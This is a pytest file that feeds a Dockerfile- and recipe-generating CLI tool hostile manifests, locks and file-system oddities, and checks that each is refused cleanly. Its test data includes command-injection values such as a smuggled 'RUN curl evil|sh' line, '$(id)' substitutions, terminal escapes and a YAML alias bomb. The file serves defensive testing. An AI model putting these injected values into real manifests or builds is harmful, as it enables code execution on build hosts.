"""Hostile and odd input (issue 8): manifests, locks, the file system, options, signals, concurrency
and checks, each as a user (or someone handing a learner a malicious repository) would meet it.

Every case asserts the exit code, that stderr holds one line (or stdout one JSON object) and no
traceback, and that the temporary tree is unchanged outside the places the kit may write (for a
refusal: unchanged everywhere). Most cases call `kit.cli.main` in this process (fast); anything
that could hang or needs a signal, another user or a second process runs `python -m kit.cli` with
a timeout.
"""

from __future__ import annotations

import fcntl
import json
import os
import signal
import stat
import subprocess
import sys
import tempfile
import textwrap
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from conftest import EXAMPLE, REPO, need

from kit import cli

DATA = Path(__file__).resolve().parent / "data" / "hostile"
LOCK = (DATA / "pixi.lock").read_text()
GOOD = (EXAMPLE / "pixi.toml").read_text()
PROBE = (REPO / "kit" / "probe" / "torch_detect_GPU.py").read_text()
KIT = [sys.executable, "-m", "kit.cli"]
ENV = {**os.environ, "PYTHONPATH": str(REPO)}
SECRET = "-----BEGIN OPENSSH PRIVATE KEY-----\nnot-a-real-key\n-----END OPENSSH PRIVATE KEY-----\n"


# -- running the kit -------------------------------------------------------------------------------

@dataclass
class Run:
    code: int
    out: str
    err: str


def kit(capsys: pytest.CaptureFixture[str], *args: object) -> Run:
    """`kit ARGS` in this process."""
    try:
        code = cli.main([str(a) for a in args])
    except SystemExit as exc:  # argparse
        code = exc.code if isinstance(exc.code, int) else 2
    captured = capsys.readouterr()
    return Run(code, captured.out, captured.err)


def kit_process(*args: object, timeout: float = 60, user: int | None = None,
                cwd: Path | None = None) -> Run:
    """`python -m kit.cli ARGS` as a process of its own (optionally as another user)."""
    argv = [*KIT, *(str(a) for a in args)]
    if user is not None:
        argv = ["setpriv", f"--reuid={user}", f"--regid={user}", "--clear-groups", *argv]
    done = subprocess.run(argv, capture_output=True, text=True, errors="replace", timeout=timeout,
                          env=ENV, cwd=cwd, check=False)
    return Run(done.returncode, done.stdout, done.stderr)


def one_line(run: Run, code: int = 2, expect: str | None = None) -> None:
    """The exit code, one line on stderr (`kit: ...`), no traceback."""
    assert run.code == code, run
    assert "Traceback" not in run.out + run.err, run
    lines = run.err.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("kit: "), run
    if expect is not None:
        assert expect in lines[0], run


def one_json(run: Run, code: int = 2) -> dict[str, Any]:
    assert run.code == code, run
    assert "Traceback" not in run.out + run.err, run
    data = json.loads(run.out)
    assert isinstance(data, dict) and "error" in data, run
    return data


# -- the tree ----------------------------------------------------------------------------------------

MAX_SNAPSHOT = 4 * 1024 * 1024


def snapshot(root: Path) -> dict[str, tuple[Any, ...]]:
    """Every entry under `root`: links as links, files by bytes and mode, never reading a FIFO."""
    out: dict[str, tuple[Any, ...]] = {}
    for dirpath, dirnames, filenames in os.walk(root):
        for name in dirnames + filenames:
            path = Path(dirpath) / name
            info = path.lstat()
            rel = path.relative_to(root).as_posix()
            if stat.S_ISLNK(info.st_mode):
                out[rel] = ("link", os.readlink(path))
            elif stat.S_ISDIR(info.st_mode):
                out[rel] = ("dir", stat.S_IMODE(info.st_mode))
            elif stat.S_ISREG(info.st_mode):
                body = path.read_bytes() if info.st_size <= MAX_SNAPSHOT else info.st_size
                out[rel] = ("file", stat.S_IMODE(info.st_mode), body)
            else:
                out[rel] = ("other", stat.S_IFMT(info.st_mode))
    return out


def changed(before: dict[str, tuple[Any, ...]], after: dict[str, tuple[Any, ...]]) -> set[str]:
    return {k for k in before.keys() | after.keys() if before.get(k) != after.get(k)}


def temps(root: Path) -> list[str]:
    return sorted(k for k in snapshot(root) if Path(k).name.startswith(".kit-tmp-"))


def workspace(path: Path, manifest: str | None = GOOD, lock: str | None = LOCK, probe: bool = True) -> Path:
    path.mkdir(parents=True, exist_ok=True)
    if manifest is not None:
        (path / "pixi.toml").write_text(manifest)
    if lock is not None:
        (path / "pixi.lock").write_text(lock)
    if probe:
        (path / "app").mkdir(exist_ok=True)
        (path / "app" / "torch_detect_GPU.py").write_text(PROBE)
    return path


@pytest.fixture
def tree(tmp_path: Path) -> Path:
    """tmp/repo (a git repository whose root is the workspace) and tmp/outside (a private key)."""
    repo = workspace(tmp_path / "repo")
    (repo / ".git").mkdir()
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "id_ed25519").write_text(SECRET)
    return tmp_path


def toml_str(value: str) -> str:
    return json.dumps(value)  # a JSON string is a TOML basic string


def toml_str_list(*values: str) -> str:
    return "[" + ", ".join(toml_str(v) for v in values) + "]"


TASKS = '[tasks]\nprobe = "python app/torch_detect_GPU.py"\n'


def manifest(name: str | None = None, cuda: str | None = None, channels: str | None = None,
             platforms: str | None = None, extra: str = "", environments: str | None = None) -> str:
    """The example manifest with raw TOML values swapped in."""
    text = GOOD
    if name is not None:
        text = text.replace('name = "cuda-exercise"', f"name = {name}")
    if cuda is not None:
        text = text.replace('cuda = "12"', f"cuda = {cuda}")
    if channels is not None:
        text = text.replace('channels = ["conda-forge"]', f"channels = {channels}")
    if platforms is not None:
        text = text.replace('platforms = ["linux-64", "osx-arm64"]', f"platforms = {platforms}")
    if environments is not None:
        text = text[:text.index("[environments]")] + "[environments]\n" + environments
    return text + extra


def refused_everywhere(capsys: pytest.CaptureFixture[str], root: Path, *args: object,
                       expect: str | None = None, code: int = 2) -> Run:
    """`kit ARGS` exits `code` with one line and changes nothing under `root`."""
    before = snapshot(root)
    run = kit(capsys, *args)
    one_line(run, code, expect)
    assert changed(before, snapshot(root)) == set()
    return run


# == manifest =========================================================================================

INJECTED_NAME = 'x"\nRUN ["/bin/sh","-c","id > /pwned"]\nLABEL y="'
INJECTED_CUDA = '12"\nRUN curl evil|sh\n#'
MANIFEST_CASES: dict[str, tuple[str, list[str]]] = {
    # values that reach a Dockerfile, a def file, YAML or a shell
    "name-run-line-optimized": (manifest(name=toml_str(INJECTED_NAME)), ["--style", "optimized"]),
    "name-run-line-lesson": (manifest(name=toml_str(INJECTED_NAME)), []),
    "name-post-section": (manifest(name=toml_str("x\n%post\n    id > /pwned\n")), []),
    "name-command-substitution": (manifest(name=toml_str("$(id)")), []),
    "name-backticks": (manifest(name=toml_str("`id`")), []),
    "name-github-expression": (manifest(name=toml_str("${{ github.token }}")), []),
    "name-yaml-quote": (manifest(name=toml_str("a' : evil\nkey: 'x")), []),
    "name-terminal-escape": (manifest(name=toml_str("\u001b]0;owned\u0007\u001b[2Jx")), []),
    "name-carriage-return": (manifest(name=toml_str("ok\rRUN id")), []),
    "name-nul": (manifest(name=toml_str("a\u0000b")), []),
    "name-10k-chars": (manifest(name=toml_str("a" * 10_000)), []),
    "name-integer": (manifest(name="5"), []),
    "name-table": (manifest(name="{ a = 1 }"), []),
    "cuda-run-line": (manifest(cuda=toml_str(INJECTED_CUDA)), ["--env", "gpu"]),
    "cuda-run-line-optimized": (manifest(cuda=toml_str(INJECTED_CUDA)), ["--env", "gpu", "--style", "optimized"]),
    "cuda-yaml-quote": (manifest(cuda=toml_str("12' , evil: 'x")), ["--env", "gpu"]),
    "cuda-abc": (manifest(cuda=toml_str("abc")), ["--env", "gpu"]),
    "cuda-empty": (manifest(cuda=toml_str("")), ["--env", "gpu"]),
    "cuda-space": (manifest(cuda=toml_str("12 .4")), ["--env", "gpu"]),
    "cuda-dollar": (manifest(cuda=toml_str("$(id)")), ["--env", "gpu"]),
    "cuda-huge-number": (manifest(cuda=toml_str("99999999999999999999")), ["--env", "gpu"]),
    "cuda-version-table-injection": (manifest(cuda='{ version = "12\\nRUN id" }'), ["--env", "gpu"]),
    "cuda-list": (manifest(cuda='["12"]'), ["--env", "gpu"]),
    "cuda-in-matrix-only": (manifest(cuda=toml_str("12'\nevil: 1")), ["--env", "cpu", "--matrix", "gpu"]),
    "channel-newline": (manifest(channels=toml_str_list("conda-forge\nRUN id")), []),
    "channel-quote": (manifest(channels=toml_str_list('conda"-forge')), []),
    "channel-table-integer": (manifest(channels="[{ channel = 5, priority = 1 }]"), []),
    "channels-string": (manifest(channels=toml_str("conda-forge")), []),
    "channels-table": (manifest(channels="{ a = 1 }"), []),
    "platforms-integers": (manifest(platforms="[1, 2]"), []),
    "platforms-injection": (manifest(platforms=toml_str_list("linux-64\nRUN id")), []),
    "platforms-string": (manifest(platforms=toml_str("linux-64")), []),
    "tasks-integer": (GOOD.replace(TASKS, "tasks = 5\n"), []),
    "tasks-list": (GOOD.replace(TASKS, 'tasks = ["a"]\n'), []),
    "no-default-feature-string": (manifest(environments='cpu = ["cpu"]\ngpu = { features = ["gpu"], no-default-feature = "false" }\n'), []),
    "features-string": (manifest(environments='cpu = ["cpu"]\ngpu = { features = "gpu" }\n'), []),
    "feature-names-integers": (manifest(environments='cpu = ["cpu"]\ngpu = [1]\n'), []),
    "environments-integer": ("environments = 5\n" + GOOD[:GOOD.index("[environments]")], []),
    "environment-integer": (manifest(environments='cpu = 5\n'), []),
    "environment-name-uppercase": (manifest(environments='GPU = ["gpu"]\n'), []),
    "environment-name-injection": (manifest(environments='"gpu;id" = ["gpu"]\n'), []),
    "feature-integer": (manifest(extra="\n[feature]\nextra = 5\n"), []),
    "features-table-integer": ("feature = 5\n" + GOOD.split("[feature.cpu")[0], []),
    "system-requirements-string": (GOOD.replace('[feature.gpu.system-requirements]\ncuda = "12"', '[feature.gpu]\nsystem-requirements = "cuda"'), ["--env", "gpu"]),
    "workspace-integer": ("workspace = 5\n", []),
}


@pytest.mark.parametrize("case", sorted(MANIFEST_CASES))
def test_manifest_values_are_refused_where_they_enter(capsys: pytest.CaptureFixture[str], tree: Path,
                                                      case: str) -> None:
    """Nothing from a manifest reaches a recipe unchecked: exit 2, one line naming the manifest."""
    text, flags = MANIFEST_CASES[case]
    repo = tree / "repo"
    (repo / "pixi.toml").write_text(text)
    run = refused_everywhere(capsys, tree, "generate", repo, *flags, expect="pixi.toml")
    assert "fix:" in run.err
    assert "\x1b" not in run.err and "\r" not in run.err and "\x00" not in run.err


def deep(open_: str, close: str, depth: int, inner: str = "1") -> str:
    return open_ * depth + inner + close * depth


ODD_MANIFESTS: dict[str, bytes] = {
    "arrays-5000-deep": f"[workspace]\nname = \"x\"\nx = {deep('[', ']', 5000)}\n".encode(),
    "inline-tables-3000-deep": f"[workspace]\nname = \"x\"\nx = {deep('{a=', '}', 3000)}\n".encode(),
    "mixed-nesting-4000-deep": f"x = {deep('[{a=', '}]', 2000)}\n".encode(),
    "latin-1": GOOD.replace("The workspace", "Die Arbeitsfl\xe4che").encode("latin-1"),
    "utf-16": GOOD.encode("utf-16"),
    "byte-order-mark": b"\xef\xbb\xbf" + GOOD.encode(),
    "nul-byte": GOOD.encode().replace(b"# The", b"# \x00The"),
    "binary-garbage": bytes(range(256)) * 4,
    "unterminated-string": b'[workspace]\nname = "x\n',
    "duplicate-key": GOOD.encode() + b'\n[workspace]\nname = "y"\n',
    "empty": b"",
    "only-comments": b"# nothing here\n",
}


@pytest.mark.parametrize("case", sorted(ODD_MANIFESTS))
def test_odd_manifest_bytes(capsys: pytest.CaptureFixture[str], tree: Path, case: str) -> None:
    repo = tree / "repo"
    (repo / "pixi.toml").write_bytes(ODD_MANIFESTS[case])
    refused_everywhere(capsys, tree, "generate", repo, expect="pixi.toml")


def test_deep_table_headers_are_read_without_recursion(capsys: pytest.CaptureFixture[str], tree: Path) -> None:
    """`[a.a.a...]` 3000 levels deep is flat for the parser: read, and unknown tables ignored."""
    repo = tree / "repo"
    (repo / "pixi.toml").write_text(GOOD + "\n[" + ".".join(["a"] * 3000) + "]\nb = 1\n")
    run = kit(capsys, "generate", repo, "--diff")
    assert run.code == 0 and "Traceback" not in run.err


def test_manifest_too_big(capsys: pytest.CaptureFixture[str], tree: Path) -> None:
    repo = tree / "repo"
    with (repo / "pixi.toml").open("a") as handle:
        handle.write("\n# " + "x" * (5 * 1024 * 1024) + "\n")
    refused_everywhere(capsys, tree, "generate", repo, expect="MiB")


@pytest.mark.parametrize("kind", ["folder", "dangling-link", "link-loop", "link-to-folder"])
def test_manifest_that_is_not_a_file(capsys: pytest.CaptureFixture[str], tree: Path, kind: str) -> None:
    repo = tree / "repo"
    manifest_path = repo / "pixi.toml"
    manifest_path.unlink()
    if kind == "folder":
        manifest_path.mkdir()
    elif kind == "dangling-link":
        manifest_path.symlink_to(tree / "nowhere.toml")
    elif kind == "link-loop":
        manifest_path.symlink_to("pixi.toml")
    else:
        manifest_path.symlink_to(tree / "outside")
    refused_everywhere(capsys, tree, "generate", repo, expect="pixi.toml")


@pytest.mark.parametrize("kind", ["fifo", "dev-zero", "dev-urandom"])
def test_manifest_fifo_or_device_does_not_hang(tree: Path, kind: str) -> None:
    repo = tree / "repo"
    (repo / "pixi.toml").unlink()
    if kind == "fifo":
        os.mkfifo(repo / "pixi.toml")
    else:
        (repo / "pixi.toml").symlink_to("/dev/" + kind.split("-")[1])
    before = snapshot(tree)
    run = kit_process("generate", repo, timeout=30)
    one_line(run, 2, "pixi.toml")
    assert changed(before, snapshot(tree)) == set()


@pytest.mark.parametrize("case", ["tool-integer", "tool-pixi-integer", "tool-pixi-missing"])
def test_pyproject_shapes(capsys: pytest.CaptureFixture[str], tree: Path, case: str) -> None:
    repo = tree / "repo"
    (repo / "pixi.toml").unlink()
    body = {"tool-integer": "tool = 5\n", "tool-pixi-integer": "[tool]\npixi = 5\n",
            "tool-pixi-missing": "[project]\nname = 'x'\n"}[case]
    (repo / "pyproject.toml").write_text(body)
    refused_everywhere(capsys, tree, "generate", repo, expect="pyproject.toml")


# == lock ===============================================================================================

LOCK_CASES: dict[str, bytes] = {
    "empty": b"",
    "version-only": b"version: 6\n",
    "no-version": b"environments: {}\npackages: []\n",
    "version-huge": b"version: 99999999999999999999\nenvironments: {}\npackages: []\n",
    "version-negative": b"version: -1\nenvironments: {}\npackages: []\n",
    "latin-1": LOCK.replace("Public-Domain", "\xe4").encode("latin-1"),
    "binary-garbage": bytes(range(256)) * 16,
    "nested-5000-deep": b"version: 6\nenvironments: " + b"[" * 5000 + b"]" * 5000 + b"\npackages: []\n",
    "yaml-alias-bomb": b"version: 6\na: &a [x, x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]\n"
                       b"c: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b]\nd: &d [*c, *c, *c, *c, *c, *c, *c, *c, *c]\n"
                       b"environments: [*d, *d, *d, *d, *d, *d, *d, *d, *d]\npackages: []\n",
    "environments-list": b"version: 6\nenvironments: [1, 2]\npackages: []\n",
    "package-url-injection": LOCK.replace("tzdata-2025b", "tzdata-2025b\nRUN id").encode(),
}


@pytest.mark.parametrize("case", sorted(LOCK_CASES))
def test_odd_lock_bytes(tree: Path, case: str) -> None:
    repo = tree / "repo"
    (repo / "pixi.lock").write_bytes(LOCK_CASES[case])
    before = snapshot(tree)
    run = kit_process("generate", repo, timeout=60)
    one_line(run, 2, "pixi.lock")
    assert changed(before, snapshot(tree)) == set()


@pytest.mark.parametrize("kind", ["fifo", "dev-zero", "folder", "dangling-link", "sparse-300-MiB"])
def test_lock_that_is_not_a_small_file_does_not_hang(tree: Path, kind: str) -> None:
    repo = tree / "repo"
    lock = repo / "pixi.lock"
    lock.unlink()
    if kind == "fifo":
        os.mkfifo(lock)
    elif kind == "dev-zero":
        lock.symlink_to("/dev/zero")
    elif kind == "folder":
        lock.mkdir()
    elif kind == "dangling-link":
        lock.symlink_to(tree / "gone.lock")
    else:
        with lock.open("wb") as handle:
            handle.write(b"version: 6\n")
            handle.truncate(300 * 1024 * 1024)
    before = snapshot(tree)
    run = kit_process("inspect", repo, timeout=30)
    one_line(run, 2, "pixi.lock")
    assert changed(before, snapshot(tree)) == set()
